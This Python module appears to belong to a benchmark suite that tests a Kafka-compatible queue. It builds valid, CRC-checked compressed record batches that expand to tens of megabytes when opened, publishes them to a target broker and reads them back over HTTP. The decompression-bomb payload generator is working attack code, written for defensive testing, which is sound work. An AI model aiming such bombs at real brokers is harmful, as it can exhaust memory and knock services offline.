"""Attacks with batches that are small on the wire and huge once they are open."""

from __future__ import annotations

import struct
from functools import cache, partial
from typing import Final

from crc32c import crc32c
from kio.schema.errors import ErrorCode

from benchmarks._attacks import Attack, Target
from benchmarks._attacks_http import TOPIC, make_attacked
from benchmarks._attacks_wire import ask, first_line, http_request
from goqueue.records import Compression
from goqueue.records.batch import HEADER, HEADER_BYTES
from goqueue.records.compression import compress
from goqueue.wire.kafka.api_keys import ApiKey

_SIZES: Final = {
    Compression.ZSTD: 60 << 20,
    Compression.GZIP: 60 << 20,
    Compression.LZ4: 60 << 20,
    Compression.SNAPPY: 16 << 20,  # more would be larger than a topic takes
}
_CRC_AT, _CRC_FROM = 17, 21


@cache
def _bomb(codec: Compression) -> bytes:
    """One record of nothing but empty headers: two bytes each, and eighty in memory."""
    count = _SIZES[codec] // 2
    body = b"\0\0\0\x01\x01" + _zigzag(count) + b"\0\x01" * count
    stored = bytes(compress(codec, _zigzag(len(body)) + body))
    batch = bytearray(HEADER_BYTES) + stored
    numbers = (0, len(batch) - 12, -1, 2, 0, int(codec), 0, 0, 0, -1, -1, -1, 1)
    HEADER.pack_into(batch, 0, *numbers)
    struct.pack_into(">I", batch, _CRC_AT, crc32c(memoryview(batch)[_CRC_FROM:]))
    return bytes(batch)


def _zigzag(number: int) -> bytes:
    raw, encoded = number << 1, bytearray()
    while raw > 0x7F:
        encoded.append(raw & 0x7F | 0x80)
        raw >>= 7
    return bytes([*encoded, raw])


def _prepare(codec: Compression, target: Target) -> None:
    _bomb(codec)
    make_attacked(target)


def bomb(codec: Compression, target: Target) -> str:
    """Publish a bomb, and read it if it was taken."""
    partition = {"index": 0, "records": _bomb(codec)}
    answer, _ = ask(
        target.kafka_port,
        ApiKey.PRODUCE,
        9,
        transactional_id=None,
        acks=-1,
        timeout_ms=30_000,
        topic_data=[{"name": TOPIC, "partition_data": [partition]}],
    )
    produced = answer.responses[0].partition_responses[0]
    if produced.error_code:
        return f"refused: {ErrorCode(produced.error_code).name}"
    path = f"/topics/{TOPIC}/partitions/0/messages?offset={produced.base_offset}&limit=1"
    return "stored, read: " + first_line(
        target.http_port, http_request(target.http_port, "GET", path)
    )


ATTACKS: Final = [
    Attack(
        3,
        f"{codec.name.lower()} bomb",
        partial(bomb, codec),
        ("refused", "stored, read: HTTP/1.1 2", "stored, read: HTTP/1.1 4"),
        partial(_prepare, codec),
    )
    for codec in _SIZES
]
